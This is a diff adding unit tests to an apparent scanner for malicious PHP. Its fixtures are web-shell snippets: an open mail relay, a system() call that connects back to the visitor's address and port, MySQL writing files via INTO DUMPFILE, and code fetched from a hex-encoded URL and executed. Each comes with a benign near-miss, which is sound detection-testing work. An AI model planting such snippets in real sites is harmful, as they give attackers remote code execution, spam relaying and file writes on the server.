@@ -855,3 +855,40 @@ def test_write_to_a_path_carried_in_a_cookie(eng):
     near = (b"<?php\n$dir = __DIR__ . '/cache/' . $_SERVER['HTTP_HOST'];\n"
             b"file_put_contents($dir . '/index.html', ob_get_contents());\n")
     assert not eng.analyse(near, '/var/www/html/cache.php').suspicious
+
+
+def test_mail_relay_where_the_client_picks_recipient_and_sender(eng):
+    src = (b"<?php\n$to = $_POST['to']; $from = $_POST['from'];\n"
+           b"mail($to, $_POST['subject'], $_POST['body'], 'From: ' . $from);\n")
+    v = eng.analyse(src, '/var/www/html/m.php')
+    assert v.suspicious and 'php.mailer.request_recipients' in rules(v), v
+    # near-miss: a contact form mailing the site owner, the visitor only in Reply-To
+    near = (b"<?php\n$msg = strip_tags($_POST['message']);\n"
+            b"mail('owner@example.org', 'Contact form', $msg, 'Reply-To: ' . $_POST['email']);\n")
+    assert not eng.analyse(near, '/var/www/html/contact.php').suspicious
+
+
+def test_command_given_the_clients_address_and_port_connects_back(eng):
+    src = b"<?php\nsystem('./helper ' . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['REMOTE_PORT']);\n"
+    v = eng.analyse(src, '/var/www/html/f.php')
+    assert v.suspicious and 'php.revshell.socket_shell' in rules(v), v
+    near = b"<?php\nexec('logger visit from ' . escapeshellarg($_SERVER['REMOTE_ADDR']));\n"
+    assert not eng.analyse(near, '/var/www/html/log.php').suspicious
+
+
+def test_database_server_made_to_write_files(eng):
+    src = (b"<?php\n$c = mysql_connect($_COOKIE['h'], $_COOKIE['u'], $_COOKIE['p']);\n"
+           b"$q = \"select '$payload' into dumpfile '$target';\";\nmysql_query($q);\n")
+    v = eng.analyse(src, '/var/www/html/mof.php')
+    assert v.suspicious and 'php.sql.file_io' in rules(v), v
+    near = b"<?php\n// MySQL can export with SELECT ... INTO OUTFILE, we do not use it\n$r = $db->query('SELECT 1');\n"
+    assert 'php.sql.file_io' not in rules(eng.analyse(near, '/var/www/html/x.php'))
+
+
+def test_code_fetched_from_a_url_spelled_in_hex(eng):
+    url = b"http://203.0.113.9/p.txt".hex().encode()
+    parts = b", ".join(b"'" + url[i:i + 2] + b"'" for i in range(0, len(url), 2))
+    src = (b"<?php\n$t = array(" + parts + b");\n"
+           b"call_user_func(create_function(null, file_get_contents(pack('H*', join(null, $t)))));\n")
+    v = eng.analyse(src, '/var/www/html/w.php')
+    assert v.suspicious and 'php.code.fetched_code' in rules(v), v
